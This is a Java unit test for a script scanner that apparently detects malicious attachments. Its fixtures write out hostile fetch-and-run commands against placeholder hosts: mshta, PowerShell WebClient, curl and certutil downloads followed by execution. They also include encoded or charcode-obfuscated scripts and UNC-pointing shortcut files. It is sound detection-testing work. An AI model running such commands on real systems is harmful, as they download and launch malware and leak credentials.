package ess.scan;

import static org.assertj.core.api.Assertions.assertThat;

import ess.message.Finding;
import ess.message.Part;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ScriptScannerTest implements ScannerContract {

  private final ScriptScanner scanner = new ScriptScanner();

  @Override
  public List<Finding> scan(Part part) {
    return scanner.scan(part);
  }

  @Override
  public Part found() {
    return named(
        "invoice.js",
        "var s = new ActiveXObject('WScript.Shell'); s.Run('mshta http://one.example/a');");
  }

  @Override
  public String foundId() {
    return "scripts.fetch-and-run";
  }

  @Override
  public Part lookalike() {
    return named("page.js", "fetch('/list').then(r => r.json()).then(show); // download and run\n");
  }

  @Override
  public Part broken() {
    return named("a.vbs", "\u0000\u0001#@~^");
  }

  private static Part named(String name, String text) {
    return Parts.of("text/plain", text, name);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = ';',
      quoteCharacter = '`',
      value = {
        "a.ps1; (New-Object Net.WebClient).DownloadFile($u, $f); Start-Process $f; scripts.fetch-and-run",
        "a.bat; curl -o %TEMP%\\a.exe http://one.example/a & start %TEMP%\\a.exe; x; scripts.fetch-and-run",
        "a.vbs; Set x = CreateObject(\"MSXML2.ServerXMLHTTP\"); CreateObject(\"WScript.Shell\").Run f; scripts.fetch-and-run",
        "a.vbe; #@~^EgAAAA==\\ko$K6,J4+^VWJ; x; scripts.encoded",
        "a.cmd; powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=; x; scripts.hidden-words",
        "a.js; eval(String.fromCharCode(97,108,101,114,116,40,49,41,59)); x; scripts.hidden-words",
        "a.vbs; Execute Chr(77) & Chr(115) & Chr(103) & Chr(66) & Chr(111) & Chr(120) & Chr(32) & Chr(34) & x; x; scripts.hidden-words",
        "a.url; URL=file://files.one.example/share/a.exe; x; scripts.remote-pointer",
        "a.scf; IconFile=\\\\192.0.2.1\\share\\i.ico; x; scripts.remote-pointer",
        "a.library-ms; <url>\\\\one.example@SSL@8443\\dav</url>; x; scripts.remote-pointer",
      })
  void whatScriptsAreSentFor(String name, String first, String second, String id) {
    assertThat(Parts.ids(scanner.scan(named(name, first + "\n" + second)))).containsExactly(id);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = ';',
      quoteCharacter = '`',
      value = {
        "a.txt; (New-Object Net.WebClient).DownloadFile($u, $f) Start-Process $f",
        "a.bat; echo off & copy a b",
        "a.ps1; Get-Process | Sort-Object CPU",
        "a.js; x.map(String.fromCharCode); y = String.fromCharCode(10, 13)",
        "a.url; URL=https://one.example/page",
        "a.url; URL=file:///C:/notes/a.txt",
        "a.library-ms; <url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url>",
      })
  void ordinaryScripts(String name, String text) {
    assertThat(scanner.scan(named(name, text))).isEmpty();
  }

  @Test
  void theFindingCitesTheWord() {
    String text = "rem é\ncertutil -urlcache -f http://one.example/a a.exe\nstart a.exe";

    Finding finding = scanner.scan(named("a.bat", text)).get(0);

    byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
    assertThat(finding.evidence()).isEqualTo("-urlcache");
    assertThat(
            new String(
                bytes,
                (int) finding.range().from(),
                (int) finding.range().length(),
                StandardCharsets.UTF_8))
        .isEqualTo("-urlcache");
  }
}
